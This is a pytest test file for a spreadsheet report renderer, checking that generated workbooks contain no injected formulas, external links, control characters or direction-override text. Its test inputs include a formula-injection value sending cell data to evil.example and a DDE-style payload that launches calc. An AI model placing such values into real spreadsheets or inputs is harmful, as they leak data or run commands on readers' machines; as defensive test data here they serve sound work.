"""A report's text is text in the workbook, whatever it looks like; thousands of findings fit."""

from __future__ import annotations

import re
import zipfile
from io import BytesIO

import openpyxl
import pytest
from lxml import etree
from msgspec.structs import replace
from tests.outputs.made import HOSTILE, finding, hostile_result, material, result, subject
from tests.outputs.workbook.judged import WITH_ERRORS, judged

from juesuan_rules.documents.model import GridBlock, GridCell, Place
from juesuan_rules.findings import Operand
from juesuan_rules.live import Live
from juesuan_rules.outputs.workbook.ledger import LEDGER
from juesuan_rules.outputs.workbook.workbook import render_workbook

OWN_FORMULA = re.compile(r"(?:IF|IFERROR|COUNTIFS?|INDEX|SUM|ROUND|MAX|MIN|ABS|COUNT|N|-|\(|'|\d)")
IN_XML = re.compile(rb"[\x00-\x08\x0b\x0c\x0e-\x1f]")
IN_NAMES = ('=HYPERLINK("http://evil.example/?"&A1,"点")', "@SUM(1+1)*cmd|' /C calc'!A0", "a'b!c[1]:*?/\\", "</sheet>&<x>", "\u202e反\u2066", "\x00\x07\x1b[31m", "History", "SORT(DROP(", " '", "", "结论", "\ud800")
DIRECTIONS = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f]")


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def check_whole(data: bytes) -> openpyxl.Workbook:
    """Well-formed, nothing live that is not ours, nothing outside, no text too long."""
    for name, content in parts(data).items():
        if name.endswith((".xml", ".rels", ".vml")):
            assert not IN_XML.search(content)
            etree.fromstring(content, etree.XMLParser(resolve_entities=False, huge_tree=True))
        assert b'TargetMode="External"' not in content
    book = openpyxl.load_workbook(BytesIO(data))
    for sheet in book:
        assert len(sheet.title.encode("utf-16-le")) <= 62
        for cell in (cell for row in sheet.iter_rows() for cell in row if cell.value is not None):
            if cell.data_type == "f":
                assert OWN_FORMULA.match(cell.value[1:]), cell.value
                assert not re.search("HYPERLINK|evil", re.sub("'[^']*'", "", cell.value))
            elif isinstance(cell.value, str):
                assert len(cell.value) <= 32_767
                assert not DIRECTIONS.search(cell.value)
    return book


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_everywhere(text: str) -> None:
    report = hostile_result(text)
    check_whole(render_workbook(subject(report), material(report)))


@pytest.mark.parametrize("text", IN_NAMES, ids=repr)
def test_hostile_text_in_tables_and_their_names(text: str) -> None:
    made, run = judged(WITH_ERRORS)
    first = next(iter(made.report.tables.values()))
    rows = [list(row) for row in first.grid.rows]
    rows[3][0] = replace(rows[3][0], text=text)
    table = replace(first, title=text, number=text, unit=text, grid=replace(first.grid, rows=tuple(map(tuple, rows))))
    other = GridBlock(((GridCell(text, Place(sheet=text, cell=text), 2, 2), GridCell("")), (GridCell(""), GridCell(""))), Place(sheet=text))
    changed = replace(made.report, tables={**made.report.tables, first.spec.id: table}, other_tables=(other, other), other_titles=(text, text))
    book = check_whole(render_workbook(replace(made, report=changed), run))
    assert len({name.lower() for name in book.sheetnames}) == len(book.sheetnames)


def test_text_that_looks_like_a_formula_is_quoted() -> None:
    report = hostile_result("=1+1")
    data = render_workbook(subject(report), material(report))
    book = openpyxl.load_workbook(BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value == "=1+1"]
    told = [cell for cell in cells if cell.data_type == "s"]
    assert told
    assert len(told) == len(cells)
    assert sum(cell.quotePrefix or False for cell in told) > len(told) * 0.6


def test_thousands_of_findings() -> None:
    live = Live("{0}", "==", "{1}+{2}", "0.01", "万元", "0.02", 6, bound="tail")
    place = Place(line=1)
    many = []
    for n in range(3_000):
        operands = tuple([Operand(f"所属单位1.支出表[{n}].{name}", f"{n + at}.00", f"{n + at}", "元", place) for at, name in enumerate(("合计", "基本支出", "项目支出"))])
        many.append(finding(f"A{n % 90:02d}-{n % 7}", operands=operands, key=str(n), unit="元"))
    report = result(many)
    data = render_workbook(subject(report, [live] * len(many)), material(report))
    book = openpyxl.load_workbook(BytesIO(data), read_only=True)
    assert book[LEDGER].max_row > 3_000
    assert len(data) < 5_000_000
